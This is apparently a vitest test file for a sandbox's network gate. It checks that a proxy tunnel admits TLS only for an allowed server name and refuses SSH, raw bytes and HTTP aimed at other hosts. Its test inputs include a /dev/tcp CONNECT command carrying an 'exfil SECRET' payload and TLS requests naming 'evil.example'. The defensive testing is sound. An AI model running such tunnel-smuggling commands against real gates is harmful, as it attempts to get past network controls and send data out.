import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { type AddressInfo, createServer as createTcpServer, type Server } from 'node:net';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { setImmediate } from 'node:timers/promises';
import { createServer as createTlsServer } from 'node:tls';
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { Execution } from '@signalbox/core';
import { createHarness, type SandboxHarness } from '../testing/sandbox-harness.ts';
import { systemClock } from '../testing/system-clock.ts';
import { readFirstBytes } from './tunnel-check.ts';

let harness: SandboxHarness;
let secure: Server;
let plain: Server;
let heard: string[];

const portOf = (server: Server): number => (server.address() as AddressInfo).port;

beforeEach(async () => {
  harness = createHarness({ resolve: async () => ['127.0.0.1'] });
  heard = [];
  const [key, cert] = ['key.pem', 'cert.pem'].map((name) => join(harness.folder, name));
  const subject = ['-days', '2', '-nodes', '-subj', '/CN=any', '-newkey', 'rsa:2048', '-x509'];
  execFileSync('openssl', ['req', ...subject, '-keyout', key ?? '', '-out', cert ?? ''], { stdio: 'ignore' });
  secure = createTlsServer({ key: readFileSync(key ?? ''), cert: readFileSync(cert ?? '') }, (socket) => {
    socket.on('error', () => undefined);
    socket.once('data', (bytes: Buffer) => {
      heard.push(bytes.toString('latin1'));
      socket.end('HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nsecret\n');
    });
  }).listen(0, '127.0.0.1');
  plain = createTcpServer((socket) => {
    socket.on('error', () => undefined);
    socket.once('data', (bytes: Buffer) => {
      heard.push(bytes.toString('latin1'));
      socket.end('SSH-2.0-server\r\n');
    });
  }).listen(0, '127.0.0.1');
  await Promise.all([once(secure, 'listening'), once(plain, 'listening')]);
});
afterEach(async () => {
  secure.close();
  plain.close();
  await harness.close();
});

/** Runs a line with a gate to good.example, which resolves to this machine. */
function run(line: string): Promise<Execution> {
  const own = [secure, plain].map((server) => `127.0.0.1:${portOf(server)}`);
  const limits = { timeoutMs: 30_000, memoryBytes: 1024 ** 3, cpuPercent: 100, processes: 256 };
  return harness.run(line, {
    network: { hosts: ['good.example:*', ...own] },
    limits: { ...limits, fileBytes: 1024 ** 3, openFiles: 1024 },
  });
}

/**
 * `openssl s_client` through the gate.
 *
 * @param name The server its hello asks for.
 */
const openssl = (name: string): string =>
  `printf 'GET / HTTP/1.0\\r\\n\\r\\n' | openssl s_client -quiet -verify_quiet -ign_eof ${name} -proxy "\${https_proxy#http://}" -connect good.example:${portOf(secure)}`;

const outcomes = ({ network }: Execution): (string | null)[] =>
  (network ?? []).map(({ outcome, why }) => (why === null ? outcome : `${outcome}: ${why}`));

test('a tunnel carries TLS to the admitted server, with openssl, curl and Node.js (C3)', async () => {
  const url = `https://good.example:${portOf(secure)}/`;
  const node = `node --no-warnings --input-type=module -e "process.stdout.write(await (await fetch('${url}')).text())"`;
  const done = await run(
    `${openssl('-servername GOOD.example')} | tail -1; curl -sSk ${url}; NODE_TLS_REJECT_UNAUTHORIZED=0 ${node}`,
  );
  expect(done.stdout.text).toBe('secret\nsecret\nsecret\n');
  expect(done.network).toMatchObject([{ outcome: 'reached', why: null, connections: 3 }]);
});

test('TLS for another server is cut off before a byte of it is forwarded', async () => {
  const done = await run(openssl('-servername evil.example'));
  expect(done.stdout.text).toBe('');
  const name = `good.example:${portOf(secure)}`;
  expect(outcomes(done)).toEqual([
    `refused: "${name}": its TLS asks for "evil.example" and not for "good.example"`,
  ]);
  expect(heard).toEqual([]);
});

test('TLS that names no server is forwarded, and the result says so', async () => {
  const done = await run(openssl('-noservername'));
  expect(done.stdout.text).toContain('secret');
  expect(outcomes(done)).toEqual(['reached: its TLS named no server']);
});

test('a tunnel carries no other protocol: ssh, text, TLS after a byte, HTTP for another host', async () => {
  const target = `good.example:${portOf(plain)}`;
  const say = (text: string): string =>
    `exec 5<>/dev/tcp/127.0.0.1/\${https_proxy##*:}; printf 'CONNECT ${target} HTTP/1.1\\r\\n\\r\\n${text}' >&5; cat <&5; exec 5>&-`;
  const done = await run(
    ['SSH-2.0-exfil SECRET\\r\\n', '\\0\\26\\3\\1', 'GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n']
      .map(say)
      .join('; '),
  );
  expect(done.stdout.text).not.toContain('SSH-2.0-server');
  expect(heard).toEqual([]);
  expect(done.network?.map(({ outcome, connections }) => `${outcome} ${connections}`)).toEqual(['refused 3']);
});

test('a silent client times out', async () => {
  let ring = (): void => undefined;
  const clock = {
    ...systemClock,
    timer: (_: number, callback: () => void) => ((ring = callback), () => undefined),
  };
  const socket = new PassThrough();
  const first = readFirstBytes(socket, Buffer.alloc(0), clock);
  socket.write(Buffer.from([22]));
  await setImmediate();
  ring();
  expect(await first).toEqual({ bytes: Buffer.from([22]), opening: { kind: 'incomplete' } });
});
